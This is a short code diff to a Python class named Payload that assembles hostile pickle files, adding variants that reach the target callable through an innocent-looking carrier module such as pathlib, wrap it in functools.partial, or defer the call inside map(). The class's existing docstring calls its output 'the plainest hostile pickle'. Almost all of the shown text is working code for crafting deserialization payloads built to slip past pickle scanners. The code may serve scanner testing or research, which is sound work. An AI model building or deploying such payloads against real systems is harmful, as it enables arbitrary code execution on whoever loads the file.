@@ -33,6 +33,22 @@ class Payload:
         """Opcodes that make the call and leave its result."""
         return asm.call(self.function(protocol), self.text(protocol))
 
+    def raw(self) -> asm.Raw:
+        """The callable, as a value for `assembler.literal`."""
+        return asm.Raw(self.function())
+
+    def held(self, carrier: str = "pathlib") -> asm.Raw:
+        """The payload's module itself, as an attribute of a module that merely imports it."""
+        return asm.Raw(asm.stack_global(self.carrier(carrier), self.module))
+
+    def partial(self) -> asm.Raw:
+        """functools.partial(callable, argument): a callable without arguments."""
+        return asm.calls("functools", "partial", self.raw(), self.argument)
+
+    def lazy(self) -> asm.Raw:
+        """map(callable, [argument]): makes the call when somebody drains it."""
+        return asm.calls("builtins", "map", self.raw(), [self.argument])
+
     def pickle(self, protocol: int = 4) -> bytes:
         """The plainest hostile pickle."""
         return asm.pickle(self.call(protocol), protocol)
